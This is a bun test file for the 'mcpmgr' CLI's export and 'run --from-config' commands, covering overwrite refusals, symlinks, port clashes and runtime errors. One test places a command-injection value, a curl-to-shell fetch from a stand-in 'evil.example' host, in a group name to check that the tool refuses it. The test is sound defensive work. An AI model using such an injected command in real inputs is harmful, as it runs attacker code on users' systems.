/**
 * `mcpmgr export NAME PATH` and `run --from-config PATH` around the file itself, with a recorded
 * workload and no server: what export may overwrite, where it writes, and an exported file moved
 * to a machine where its working directory does not exist.
 */
import { afterAll, beforeAll, expect, test, setDefaultTimeout } from "bun:test";
import { lstatSync, mkdirSync, readFileSync, statSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { resolvePaths } from "../../src/state/paths.ts";
import { WorkloadStore } from "../../src/state/workloads.ts";
import { expectOneLineError } from "../support/cli-home.ts";
import { CLI_ENTRY } from "../support/processes.ts";

// Subprocesses of the CLI: more than bun's 5 s on a loaded machine.
setDefaultTimeout(60_000);

let dir: string;
let home: string;

/** Records a remote workload `name` for `url` on `proxyPort` in the store; no server runs. */
async function recordRemote(name: string, url: string, proxyPort: number) {
  await new WorkloadStore(resolvePaths({ MCPMGR_HOME: home })).create({
    name,
    source: { kind: "remote", ref: url },
    transport: "streamable-http",
    proxyPort,
    runtime: "remote",
    runOptions: [url, "--name", name, "--proxy-port", String(proxyPort), "--"],
    workingDir: dir,
  });
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "mcpmgr-export-"));
  home = join(dir, "home");
  await recordRemote("notes", "https://mcp.example.com/mcp", 41_201);
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function mcpmgr(...args: string[]) {
  const result = Bun.spawnSync([process.execPath, CLI_ENTRY, ...args], {
    cwd: dir,
    env: { ...process.env, NO_COLOR: "1", MCPMGR_HOME: home },
  });
  return { code: result.exitCode, stdout: result.stdout.toString(), stderr: result.stderr.toString() };
}

const refusal = expectOneLineError;

test("export writes a new file, and replaces an earlier export of its own", () => {
  const path = join(dir, "notes.json");
  expect(mcpmgr("export", "notes", path).code).toBe(0);
  const first = JSON.parse(readFileSync(path, "utf8")) as { name: string; runOptions: string[] };
  expect(first.name).toBe("notes");
  writeFileSync(path, readFileSync(path, "utf8").replace('"labels": {}', '"labels": {"old": "yes"}'));
  expect(mcpmgr("export", "notes", path).code).toBe(0);
  expect(readFileSync(path, "utf8")).not.toContain('"old"');
});

test("export never overwrites a file that is not an export: the user's file is kept, byte for byte", () => {
  const path = join(dir, "precious.txt");
  writeFileSync(path, "my notes\n");
  expect(refusal(mcpmgr("export", "notes", path), 2)).toContain(
    "precious.txt exists and is not an exported mcpmgr configuration; export does not overwrite it",
  );
  expect(readFileSync(path, "utf8")).toBe("my notes\n");
});

test("export to a huge file is refused past the bounded reader's cap, without reading it whole, and keeps it", () => {
  // Sparse: 1 GiB long, nothing on disk. Read whole (as before) it took a second and 1 GiB of memory here, an 8 GiB one
  // 35 s and 8 GiB, only to be found no export.
  const path = join(dir, "huge.json");
  writeFileSync(path, "");
  truncateSync(path, 1024 ** 3);
  const before = statSync(path);
  const result = Bun.spawnSync([process.execPath, CLI_ENTRY, "export", "notes", path], {
    cwd: dir,
    env: { ...process.env, NO_COLOR: "1", MCPMGR_HOME: home },
  });
  const line = refusal(
    { code: result.exitCode, stdout: result.stdout.toString(), stderr: result.stderr.toString() },
    2,
  );
  expect(line).toContain(
    "huge.json exists and is no exported mcpmgr configuration (the file is larger than 16 MiB, more than any such file holds); export does not overwrite it",
  );
  // (The cap in the message is the bounded reader's, which stops at 16 MiB. The child's peak memory is not asserted:
  // Bun's resourceUsage().maxRSS is the largest of every child this test process has waited for, not this one's.)
  const after = statSync(path);
  expect([after.size, after.mtimeMs, after.ino]).toEqual([before.size, before.mtimeMs, before.ino]);
});

test("export never replaces another workload's export (perhaps the only copy of a removed workload)", async () => {
  await recordRemote("journal", "https://journal.example.com/mcp", 41_202);
  const path = join(dir, "backup.json");
  expect(mcpmgr("export", "notes", path).code).toBe(0);
  const before = readFileSync(path, "utf8");
  const line = refusal(mcpmgr("export", "journal", path), 2);
  expect(line).toContain(`holds the exported configuration of workload "notes"`);
  expect(readFileSync(path, "utf8")).toBe(before);
  expect(mcpmgr("rm", "journal").code).toBe(0);
});

test("export to a folder names a file in it instead of an error about MCPMGR_HOME", () => {
  const line = refusal(mcpmgr("export", "notes", dir), 2);
  expect(line).toContain(`${dir} is a folder`);
  expect(line).toContain(join(dir, "notes.json"));
  expect(line).not.toContain("MCPMGR_HOME");
});

test("export into a folder that does not exist is refused, and creates no folder", () => {
  const missing = join(dir, "typo", "deeper");
  const line = refusal(mcpmgr("export", "notes", join(missing, "notes.json")), 2);
  expect(line).toContain(`the folder ${missing} does not exist`);
  expect(() => lstatSync(join(dir, "typo"))).toThrow();
});

test("run --from-config of a name that is taken points at --name in the file's runOptions, not at the --name option it refuses", () => {
  const path = join(dir, "again.json");
  expect(mcpmgr("export", "notes", path).code).toBe(0);
  const line = refusal(mcpmgr("run", "--from-config", path), 1);
  expect(line).toContain("a workload named notes already exists");
  expect(line).toContain(`edit the --name value in "runOptions" of ${path} (and "name" with it)`);
  expect(line).not.toContain("choose another --name");
});

/** The exported file with `edit` applied to its record. */
function editedExport(file: string, edit: (record: { name: string; runOptions: string[] }) => void): string {
  const path = join(dir, file);
  expect(mcpmgr("export", "notes", path).code).toBe(0);
  const record = JSON.parse(readFileSync(path, "utf8")) as { name: string; runOptions: string[] };
  edit(record);
  writeFileSync(path, JSON.stringify(record));
  return path;
}

const renamed = (record: { name: string; runOptions: string[] }, name: string) => {
  record.name = name;
  record.runOptions[record.runOptions.indexOf("--name") + 1] = name;
};

test('run --from-config of a file whose "name" was edited alone is refused: --name in runOptions names the workload', () => {
  const path = editedExport("name-only.json", (record) => {
    record.name = "notes-two";
  });
  const line = refusal(mcpmgr("run", "--from-config", path), 2);
  expect(line).toContain(`its "name" is "notes-two", but its runOptions name the workload "notes"`);
});

test("run --from-config on a port another workload keeps points at the file's runOptions", () => {
  // Renamed as the name hint says: the copy now meets the port the first one keeps.
  const path = editedExport("copy.json", (record) => renamed(record, "notes-copy"));
  const line = refusal(mcpmgr("run", "--from-config", path), 1);
  expect(line).toContain(`proxy port 41201 (from ${path}) is already reserved by workload notes`);
  expect(line).toContain(`edit the --proxy-port value in "runOptions" of ${path}`);
  expect(line).not.toContain("choose another --proxy-port");
});

test("run --from-config on a port another program listens on is refused before anything starts, pointing at the file", async () => {
  const busy = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response("taken") });
  try {
    const path = editedExport("busy.json", (record) => {
      renamed(record, "notes-busy");
      record.runOptions[record.runOptions.indexOf("--proxy-port") + 1] = String(busy.port);
    });
    const line = refusal(mcpmgr("run", "--from-config", path), 1);
    expect(line).toContain(`port ${busy.port} on 127.0.0.1 (from ${path}) is already in use`);
    expect(line).toContain(`take --proxy-port and its value out of them to get a free port`);
    expect(mcpmgr("list", "--format", "json").stdout).not.toContain("notes-busy");
  } finally {
    busy.stop(true);
  }
});

test("export to a symlinked path writes its target and keeps the link", () => {
  const target = join(dir, "dotfiles-notes.json");
  const link = join(dir, "linked.json");
  symlinkSync(target, link);
  expect(mcpmgr("export", "notes", link).code).toBe(0);
  expect(lstatSync(link).isSymbolicLink()).toBe(true);
  expect(JSON.parse(readFileSync(target, "utf8")).name).toBe("notes");
});

test("export NAME - prints the configuration on stdout, and writes no file named -", () => {
  const result = mcpmgr("export", "notes", "-");
  expect(result.code).toBe(0);
  expect(JSON.parse(result.stdout).name).toBe("notes");
  expect(() => lstatSync(join(dir, "-"))).toThrow();
});

test("run --from-config of a file whose working directory does not exist here is one clear error", () => {
  const moved = join(dir, "moved.json");
  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as Record<string, unknown>;
  writeFileSync(moved, JSON.stringify({ ...record, workingDir: join(dir, "no", "such", "project") }));
  mkdirSync(join(dir, "no"));
  const line = refusal(mcpmgr("run", "--from-config", moved), 2);
  expect(line).toContain(`its working directory ${join(dir, "no", "such", "project")} does not exist here`);
  expect(line).not.toContain("unexpected error");
});

test("a shared file's group no group can have is refused as a name, never offered as a command to paste (review 9, F12)", () => {
  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as { runOptions: string[] };
  const shared = join(dir, "shared.json");
  const group = "team;curl -s https://evil.example/x|sh";
  writeFileSync(
    shared,
    JSON.stringify({ ...record, runOptions: [...record.runOptions.slice(0, -1), "--group", group, "--"] }),
  );
  const line = refusal(mcpmgr("run", "--from-config", shared), 2);
  expect(line).toContain(`${JSON.stringify(group)} is not a valid group name`);
  expect(line).not.toContain("group create");
});

test("a file whose runOptions hold --from-config is one clear error, not an unexpected one (review 9, F17)", () => {
  const chained = join(dir, "chained.json");
  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as Record<string, unknown>;
  writeFileSync(chained, JSON.stringify({ ...record, runOptions: ["--from-config", join(dir, "notes.json")] }));
  const line = refusal(mcpmgr("run", "--from-config", chained), 2);
  expect(line).toContain(`--from-config ${chained}: its runOptions hold --from-config, which cannot be replayed`);
  expect(line).not.toContain("unexpected error");
});

test("export's hint quotes a path the shell would split (review 9, F12)", () => {
  const spaced = join(dir, "my notes;x.json");
  const result = mcpmgr("export", "notes", spaced);
  expect(result.code).toBe(0);
  expect(result.stderr).toContain(`(run it with 'mcpmgr run --from-config '${spaced}'')`);
});

test('a file whose "group" disagrees with its runOptions\' --group is refused, not run in one of them (review 9, F12)', () => {
  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as Record<string, unknown>;
  const edited = join(dir, "edited.json");
  writeFileSync(edited, JSON.stringify({ ...record, group: "team" }));
  const line = refusal(mcpmgr("run", "--from-config", edited), 2);
  expect(line).toContain(
    `--from-config ${edited}: its "group" is "team", but its runOptions run the workload in "default"`,
  );
});

/** An export of a workload that ran on `runtime` from `source` (no such workload was ever run here). */
function exportOn(file: string, runtime: string, source: { kind: string; ref: string }): string {
  const record = JSON.parse(readFileSync(join(dir, "notes.json"), "utf8")) as Record<string, unknown>;
  const path = join(dir, file);
  const runOptions = [source.ref, "--name", "elsewhere", "--"];
  writeFileSync(path, JSON.stringify({ ...record, name: "elsewhere", source, runtime, runOptions, proxyPort: 41_299 }));
  return path;
}

test('run --from-config of a runtime this machine lacks names the file\'s "runtime", not an MCPMGR_RUNTIME the user never set', () => {
  const path = exportOn("podman.json", "podman", {
    kind: "package",
    ref: "npx://@modelcontextprotocol/server-everything",
  });
  const result = Bun.spawnSync([process.execPath, CLI_ENTRY, "run", "--from-config", path], {
    cwd: dir,
    env: {
      ...process.env,
      MCPMGR_RUNTIME: "",
      CONTAINER_HOST: `unix://${join(dir, "no-podman.sock")}`,
      NO_COLOR: "1",
      MCPMGR_HOME: home,
    },
  });
  const line = refusal(
    { code: result.exitCode, stdout: result.stdout.toString(), stderr: result.stderr.toString() },
    1,
  );
  expect(line).toContain(`--from-config ${path}: "runtime" is "podman" there, but no podman engine answered`);
  expect(line).toContain(`or set "runtime" in ${path} to "docker" or "process" to run it on another one`);
  expect(line).not.toContain("MCPMGR_RUNTIME");
  // An image whose "runtime" was edited to process: the file's choice again.
  const image = exportOn("image.json", "process", { kind: "image", ref: "docker.io/library/alpine:3" });
  const edited = Bun.spawnSync([process.execPath, CLI_ENTRY, "run", "--from-config", image], {
    cwd: dir,
    env: { ...process.env, MCPMGR_RUNTIME: "", NO_COLOR: "1", MCPMGR_HOME: home },
  });
  const conflict = refusal(
    { code: edited.exitCode, stdout: edited.stdout.toString(), stderr: edited.stderr.toString() },
    2,
  );
  expect(conflict).toContain(`is a container image, but "runtime" is "process" there`);
  expect(conflict).toContain(`Set "runtime" in ${image} to "docker" or "podman"`);
  expect(mcpmgr("list", "--format", "json").stdout).not.toContain("elsewhere");
});
